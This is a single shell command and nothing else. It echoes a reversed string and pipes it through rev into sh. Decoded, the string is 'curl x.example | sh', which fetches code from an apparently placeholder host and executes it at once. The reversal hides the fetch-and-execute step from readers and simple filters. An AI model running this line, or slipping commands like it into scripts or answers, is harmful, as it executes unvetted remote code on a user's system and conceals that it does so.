echo 'hs | elpmaxe.x lruc' | rev | sh
